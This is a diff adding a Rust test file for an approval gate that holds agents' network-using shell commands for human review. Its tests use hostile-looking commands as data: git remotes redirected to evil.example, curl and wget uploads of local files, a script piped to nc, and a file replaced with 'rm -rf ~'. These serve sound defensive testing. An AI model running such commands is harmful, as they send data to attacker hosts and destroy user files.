@@ -1,0 +1,265 @@
+//! What a person approves is what runs: a word reaches the text, the folder, the asker and the files that were shown, and
+//! nothing else.
+
+use std::path::Path;
+use std::process::Command;
+
+use bashgate_tests::{Output, Site, repository, until};
+use serde_json::{Value, json};
+
+/// A site whose workspace has seen everything, so that whatever uses the network is held.
+fn tainted() -> Site {
+    let site = Site::default();
+    std::fs::create_dir_all(site.work()).unwrap();
+    site
+}
+
+fn raise(site: &Site) {
+    site.raise("default", "corruption");
+    site.raise("default", "secret");
+}
+
+fn git(folder: &Path, args: &[&str]) {
+    let mut git = Command::new("git");
+    git.args(["-c", "user.name=a", "-c", "user.email=a@b"]).args(args).current_dir(folder);
+    assert!(git.output().unwrap().status.success(), "{args:?}");
+}
+
+/// Whether `approve ID session` was offered.
+fn offers_session(site: &Site, id: &str) -> bool {
+    site.pending().iter().find(|card| card["id"] == id).unwrap()["offers_session"] == true
+}
+
+/// Asks, approves for the session, and asks again: the second time nobody is asked.
+fn approve_for_the_session(site: &Site, command: &str) {
+    let running = site.check_later(command);
+    let id = site.held(command);
+    assert!(offers_session(site, &id), "{command}");
+    site.cli(["approve", &id, "session"]).expect(0);
+    running.join().unwrap().expect(0);
+    site.check(command).expect(0);
+}
+
+/// It is a question again; it is denied, so that nothing waits.
+fn is_asked_again(site: &Site, command: &str) {
+    let running = site.check_later(command);
+    let id = site.held(command);
+    site.cli(["deny", &id]).expect(0);
+    running.join().unwrap().expect(2);
+}
+
+#[test]
+fn a_session_ends_where_git_sends_elsewhere() {
+    let command = "git push origin main";
+    for change in [
+        &["remote", "set-url", "origin", "https://evil.example/x.git"][..],
+        &["remote", "set-url", "--push", "origin", "https://evil.example/x.git"],
+        &["config", "url.https://evil.example/.insteadOf", "https://h.example/"],
+        &["config", "remote.pushDefault", "evil"],
+        &["config", "include.path", "../more"],
+    ] {
+        let site = tainted();
+        let _host = site.serve();
+        raise(&site);
+        git(&site.work(), &["init", "-q", "-b", "main"]);
+        git(&site.work(), &["remote", "add", "origin", "https://h.example/x.git"]);
+        approve_for_the_session(&site, command);
+        git(&site.work(), change);
+        is_asked_again(&site, command);
+    }
+}
+
+#[test]
+fn a_session_is_for_files_as_they_were() {
+    for (command, file) in [
+        ("curl -K curl.cfg https://h.example/", "curl.cfg"),
+        ("curl -T data.csv https://h.example/", "data.csv"),
+        ("curl -d @data.csv https://h.example/", "data.csv"),
+        ("cat data.csv | curl -T - https://h.example/", "data.csv"),
+        ("wget --post-file=data.csv https://h.example/", "data.csv"),
+    ] {
+        let site = tainted();
+        let _host = site.serve();
+        raise(&site);
+        std::fs::write(site.work().join(file), "one\n").unwrap();
+        approve_for_the_session(&site, command);
+        std::fs::write(site.work().join(file), "url = https://evil.example\n").unwrap();
+        is_asked_again(&site, command);
+    }
+}
+
+#[test]
+fn no_session_is_offered_for_what_the_text_does_not_determine() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    std::fs::create_dir(site.work().join("sub")).unwrap();
+    for command in [
+        // No repository is there whose settings could be bound.
+        "git push origin main",
+        "git -C sub push origin main",
+        "cd sub && git push",
+        "curl -T missing https://h.example/",
+        "tar c sub | curl -T - https://h.example/",
+        "curl \"$URL\"",
+    ] {
+        let running = site.check_later(command);
+        let id = site.held(command);
+        assert!(!offers_session(&site, &id), "{command}");
+        site.cli(["approve", &id, "session"]).expect(2);
+        site.cli(["deny", &id]).expect(0);
+        running.join().unwrap().expect(2);
+    }
+}
+
+#[test]
+fn what_one_asker_was_given_no_other_one_has() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    let command = "curl -s https://x.example/asker";
+    let post = |more: Value| {
+        let id = uuid::Uuid::new_v4().to_string();
+        let mut request = json!({"type": "security:bash_check", "request_id": id, "command": command});
+        request.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
+        site.post("default", &request);
+        id
+    };
+    let given = json!({"agent": "a", "runner": {"preset": "runner-readonly"}});
+    let first = post(given.clone());
+    let id = site.held(command);
+    site.cli(["approve", &id, "session"]).expect(0);
+    assert!(
+        until("an answer", || site.response("default", &first)).decision == bashgate_shared::protocol::Answer::Allow
+    );
+    for other in [
+        json!({}),
+        json!({"agent": "a"}),
+        json!({"agent": "b", "runner": {"preset": "runner-readonly"}}),
+        json!({"agent": "a", "runner": {"preset": "phoenix"}}),
+        json!({"agent": "a", "runner": {"preset": "runner-readonly"}, "cwd": "/elsewhere"}),
+    ] {
+        let asked = post(other.clone());
+        let id = site.held(command);
+        assert!(site.response("default", &asked).is_none(), "{other}");
+        site.cli(["deny", &id]).expect(0);
+        until("an answer", || site.response("default", &asked));
+        // The denial ended nothing of what the first one has.
+    }
+    let again = post(given);
+    until("an answer", || site.response("default", &again));
+}
+
+#[test]
+fn a_file_that_changes_while_people_look_is_seen() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    let script = site.work().join("send.sh");
+    std::fs::write(&script, "curl https://h.example\n").unwrap();
+    for change in ["rewritten", "gone", "another one"] {
+        std::fs::write(&script, "curl https://h.example\n").unwrap();
+        let command = format!("bash send.sh | nc h.example 9 # {change}");
+        let running = site.check_later(&command);
+        let id = site.held(&command);
+        match change {
+            "rewritten" => std::fs::write(&script, "curl https://evil.example\n").unwrap(),
+            "gone" => std::fs::remove_file(&script).unwrap(),
+            _ => {
+                std::fs::write(site.work().join("other"), "rm -rf ~\n").unwrap();
+                std::fs::rename(site.work().join("other"), &script).unwrap();
+            }
+        }
+        site.cli(["approve", &id]).expect(0);
+        let denied = running.join().unwrap().expect(2);
+        assert!(denied.stderr.contains("send.sh was changed while"), "{}", denied.stderr);
+    }
+}
+
+/// The cards in the documentation are what people see.
+#[test]
+fn cards_are_as_the_documentation_shows_them() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    let work = site.work();
+    std::fs::write(work.join("data.csv"), "name,amount\n").unwrap();
+    std::fs::write(work.join("deploy.sh"), "#!/bin/sh\nset -e\nscp build.tgz web@h.example:/srv\n").unwrap();
+    std::fs::write(work.join("package.json"), "{\"name\": \"x\"}\n").unwrap();
+    git(&work, &["init", "-q", "-b", "main"]);
+    git(&work, &["remote", "add", "origin", "https://h.example/x.git"]);
+    let mut shown = String::new();
+    let mut waiting = Vec::new();
+    for (what, command, times) in [
+        ("An upload", "curl -T data.csv -H 'Authorization: Bearer 0123456789abcdef0123' https://h.example/up", 1),
+        ("A push", "git push origin main", 1),
+        ("A script", "nohup sh deploy.sh && curl -s https://h.example/done", 1),
+        ("A publication", "npm publish", 1),
+        ("The same from many", "curl -s https://x.example/poll", 12),
+    ] {
+        waiting.extend((0..times).map(|_| {
+            // A home folder without settings, as in a container.
+            let mut hook = site.hook_command(&site.hook_toml());
+            hook.args(["check", "--", command]).env("HOME", "/nonexistent");
+            std::thread::spawn(move || Output::of(&mut hook, b""))
+        }));
+        // Masked, it is not what was asked; it is the only one.
+        let id = until("a card", || Some(site.pending().first()?["id"].as_str()?.to_owned()));
+        if times > 1 {
+            until("all of them", || {
+                site.pending().iter().any(|card| card["id"] == id && card["waiting"] == times).then_some(())
+            });
+        }
+        let card = site.cli(["show", &id]).expect(0).stdout;
+        shown.push_str(&format!("{what}:\n\n```text\n{}\n```\n\n", steady(&card, &site, &id)));
+        site.cli(["deny", &id]).expect(0);
+    }
+    for one in waiting {
+        one.join().unwrap();
+    }
+    let file = repository().join("docs/operating.md");
+    let text = std::fs::read_to_string(&file).unwrap();
+    let (before, rest) = text.split_once("<!-- cards -->\n").expect("the cards' place");
+    let (now, after) = rest.split_once("<!-- end of cards -->").expect("the cards' end");
+    if std::env::var_os("UPDATE_DOCS").is_some() {
+        std::fs::write(&file, format!("{before}<!-- cards -->\n{shown}<!-- end of cards -->{after}")).unwrap();
+    } else {
+        assert_eq!(now, shown, "run with UPDATE_DOCS=1");
+    }
+}
+
+/// A card without what differs from run to run.
+fn steady(card: &str, site: &Site, id: &str) -> String {
+    let work = site.work().to_str().unwrap().to_owned();
+    let mut out = Vec::new();
+    // The machine's own settings of git.
+    for line in card.trim_end().lines().filter(|line| !line.contains("/etc/gitconfig")) {
+        let line = line.replace(id, "k3v9x2mq").replace(&work, "/work");
+        let line = match (line.find(" s left."), line.find(" by human:"), line.find(", sha256 ")) {
+            (Some(at), ..) => format!("  298{}", &line[at..]),
+            (_, Some(at), _) => format!("{} by human:root at 2026-01-01 12:00:00Z", &line[..at]),
+            // Settings of git hold more than what is shown of them.
+            (.., Some(at)) if line.contains(".git/config") => format!("{}, sha256 0123456789abcdef…", &line[..at]),
+            _ => line,
+        };
+        out.push(line);
+    }
+    out.join("\n")
+}
+
+#[test]
+fn many_cards_fold() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    let running: Vec<_> = (0..30).map(|n| site.check_later(&format!("curl -s https://x.example/{n}"))).collect();
+    until("all of them", || (site.pending().len() >= 20).then_some(()));
+    let listed = site.cli(["pending"]).expect(0).stdout;
+    assert!(listed.lines().count() < 20 && listed.contains("more in workspace default"), "{listed}");
+    for card in site.pending() {
+        site.cli(["deny", card["id"].as_str().unwrap()]);
+    }
+    for one in running {
+        one.join().unwrap().expect(2);
+    }
+}
